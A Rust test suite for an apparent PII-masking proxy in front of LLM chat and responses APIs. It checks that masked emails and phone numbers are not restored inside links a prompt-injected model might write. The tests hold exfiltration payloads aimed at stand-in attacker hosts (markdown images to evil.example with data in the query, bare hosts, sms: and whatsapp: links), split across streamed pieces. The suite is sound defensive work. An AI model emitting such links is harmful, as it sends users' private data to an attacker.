//! A model under injection writes links to a host of the attacker, in pieces that clients show as one text.

use serde_json::{Value, json};

use crate::{
    fake::Then,
    setup::{ask, post, stage},
};

const EMAIL: &str = "jane.roe@example.com";

/// The start of an image whose host is the attacker's, and its end.
const LINK: (&str, &str) = ("![x](https://evil.example/?q=", ")");

/// A chat in which the user says an address.
fn chat() -> String {
    json!({"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": EMAIL}]}).to_string()
}

/// A request of the responses API in which the user says an address.
fn response() -> String {
    json!({"model": "m", "input": EMAIL}).to_string()
}

/// The body that the client gets for `answer` of this media type.
fn relayed(path: &str, request: &str, media_type: &'static str, answer: &[u8]) -> String {
    let answer = answer.to_vec();
    let stage = stage("", "", move |_, talk| {
        talk.send(format!("HTTP/1.1 200 OK\r\nContent-Type: {media_type}\r\nContent-Length: {}\r\n\r\n", answer.len()));
        talk.send(&answer);
        Then::Keep
    });
    let body = ask(&stage.proxy, post(path, "", request)).body;
    String::from_utf8_lossy(&body).into_owned()
}

/// A stream of server-sent events.
fn events(events: &[Value]) -> Vec<u8> {
    events.iter().map(|event| format!("data: {event}\n\n")).collect::<String>().into_bytes()
}

/// Checks that an address in a link stays masked, and that one behind the link is restored.
#[track_caller]
fn assert_held(body: &str) {
    assert!(!body.contains(&format!("?q={EMAIL}")) && body.contains("[EMAIL_ADDRESS_1]"), "{body}");
    assert_eq!(body.matches(EMAIL).count(), 1, "text behind the link is text: {body}");
}

/// The pieces of a text with a link in it, and with an address in and behind it.
fn pieces() -> [&'static str; 4] {
    [LINK.0, "[EMAIL_ADDRESS_1]", LINK.1, " [EMAIL_ADDRESS_1]"]
}

#[test]
fn links_go_on_over_the_blocks_and_parts_of_whole_answers() {
    let parts = |kind: &str| pieces().map(|text| json!({"type": kind, "text": text}));
    let message = json!({"type": "message", "role": "assistant", "content": parts("text")});
    assert_held(&relayed("/v1/messages", &chat(), "application/json", message.to_string().as_bytes()));
    let message = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": parts("text")}}]});
    assert_held(&relayed("/v1/chat/completions", &chat(), "application/json", message.to_string().as_bytes()));
    let output = json!({"output": [{"type": "message", "role": "assistant", "content": parts("output_text")}]});
    assert_held(&relayed("/v1/responses", &response(), "application/json", output.to_string().as_bytes()));
}

#[test]
fn links_go_on_over_the_blocks_of_streams() {
    let mut stream = Vec::new();
    for (index, text) in pieces().iter().enumerate() {
        let block = json!({"type": "text", "text": ""});
        stream.push(json!({"type": "content_block_start", "index": index, "content_block": block}));
        let delta = json!({"type": "text_delta", "text": text});
        stream.push(json!({"type": "content_block_delta", "index": index, "delta": delta}));
        stream.push(json!({"type": "content_block_stop", "index": index}));
    }
    stream.push(json!({"type": "message_stop"}));
    assert_held(&relayed("/v1/messages", &chat(), "text/event-stream", &events(&stream)));
}

#[test]
fn a_finish_reason_does_not_end_a_link() {
    let mut stream = Vec::new();
    for text in pieces() {
        let choice = json!({"index": 0, "delta": {"content": text}, "finish_reason": "stop"});
        stream.push(json!({"choices": [choice]}));
    }
    assert_held(&relayed("/v1/chat/completions", &chat(), "text/event-stream", &events(&stream)));
}

#[test]
fn half_a_character_does_not_end_a_link() {
    let text = format!("{}\\ud800[EMAIL_ADDRESS_1]{} [EMAIL_ADDRESS_1]", LINK.0, LINK.1);
    let message = format!(r#"{{"choices":[{{"index":0,"message":{{"role":"assistant","content":"{text}"}}}}]}}"#);
    assert_held(&relayed("/v1/chat/completions", &chat(), "application/json", message.as_bytes()));
    let delta = format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n");
    assert_held(&relayed("/v1/chat/completions", &chat(), "text/event-stream", delta.as_bytes()));
    for broken in [&b"\xff"[..], b"\xe2\x82"] {
        let text = [LINK.0.as_bytes(), broken, b"[EMAIL_ADDRESS_1]) [EMAIL_ADDRESS_1]"].concat();
        assert_held(&relayed("/v1/chat/completions", &chat(), "text/plain", &text));
    }
}

#[test]
fn a_link_that_goes_on_in_json_is_no_json() {
    let parts =
        [LINK.0, "{\"a\":\"[EMAIL_ADDRESS_1]\"}) [EMAIL_ADDRESS_1]"].map(|text| json!({"type": "text", "text": text}));
    let message = json!({"type": "message", "role": "assistant", "content": parts});
    let body = relayed("/v1/messages", &chat(), "application/json", message.to_string().as_bytes());
    assert_eq!(body.matches(EMAIL).count(), 1, "{body}");
}

#[test]
fn hosts_without_a_scheme_and_other_schemes_get_nothing() {
    for start in [
        "\"https://evil.example/?q=\"",
        "'https://evil.example/?q='",
        "evil.example:8080/?q=",
        "evil.xn--p1ai/?q=",
        "evil.рф/?q=",
        "192.0.2.1/?q=",
        "<sms:+491701234567?body=",
        "<whatsapp:send?text=",
    ] {
        let text = format!("{start}[EMAIL_ADDRESS_1]> [EMAIL_ADDRESS_1]");
        let message = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]});
        let body = relayed("/v1/chat/completions", &chat(), "application/json", message.to_string().as_bytes());
        assert_eq!(body.matches(EMAIL).count(), 1, "{body}");
        assert!(body.contains(&format!("> {EMAIL}")), "text behind the link is text: {body}");
    }
}

#[test]
fn an_original_becomes_no_label_of_a_host() {
    let ask = json!({"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": format!("{EMAIL}, call +1 202-555-0143 or {EMAIL}.corp.org")}]});
    for (answer, expected) in [
        ("[PHONE_NUMBER_1].evil.com", "[PHONE_NUMBER_1].evil.com"),
        ("see [PHONE_NUMBER_1]-a.b.evil.co.uk now", "see [PHONE_NUMBER_1]-a.b.evil.co.uk now"),
        ("call [PHONE_NUMBER_1]. Then", "call +1 202-555-0143. Then"),
        ("in [PHONE_NUMBER_1].md", "in +1 202-555-0143.md"),
    ] {
        let message = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": answer}}]});
        let whole =
            relayed("/v1/chat/completions", &ask.to_string(), "application/json", message.to_string().as_bytes());
        assert!(whole.contains(&json!(expected).to_string()), "{whole}");
        // In a stream the text behind a placeholder comes later.
        let (head, tail) = answer.split_at(answer.find(']').expect("a placeholder") + 1);
        let deltas: Vec<Value> = [head, &tail[..2], &tail[2..]]
            .iter()
            .map(|text| json!({"choices": [{"index": 0, "delta": {"content": text}}]}))
            .collect();
        let stream = relayed("/v1/chat/completions", &ask.to_string(), "text/event-stream", &events(&deltas));
        assert_eq!(stream.contains("555-0143"), expected.contains("555-0143"), "{stream}");
    }
}
